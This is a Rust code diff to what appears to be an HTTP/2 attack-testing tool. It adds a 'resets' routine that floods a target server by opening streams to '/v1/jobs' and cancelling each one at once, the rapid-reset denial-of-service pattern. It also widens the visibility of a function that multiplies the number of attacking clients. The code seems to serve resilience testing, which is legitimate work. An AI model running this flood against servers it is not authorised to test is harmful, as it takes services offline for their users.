@@ -18,7 +18,7 @@ const FLOOD: Duration = Duration::from_secs(10);
 const HOLD: Duration = Duration::from_secs(40);
 
 /// How many times as many clients attack; 1 unless the variable says more, 20 at most.
-fn times() -> usize {
+pub(crate) fn times() -> usize {
     let said = std::env::var("WINDLASS_ATTACK_TIMES").ok().and_then(|times| times.parse().ok());
     said.unwrap_or(1).clamp(1, 20)
 }
@@ -169,5 +169,22 @@ pub(crate) fn closed_windows(attack: &Attack) -> std::io::Result<()> {
         http2::get(&mut stream, 2 * call + 1, &attack.target.large)?;
     }
     attack.hold();
+    Ok(())
+}
+
+/// HTTP/2 with calls that are taken back at once, on connections open as long as the server allows.
+pub(crate) fn resets(attack: &Attack) -> std::io::Result<()> {
+    while attack.floods() {
+        let mut stream = attack.connect()?;
+        http2::begin(&mut stream, 1_000)?;
+        for call in 0.. {
+            let number = 2 * call + 1;
+            let sent =
+                http2::post(&mut stream, number, "/v1/jobs").and_then(|()| http2::reset(&mut stream, number));
+            if sent.is_err() || !attack.floods() {
+                break;
+            }
+        }
+    }
     Ok(())
 }
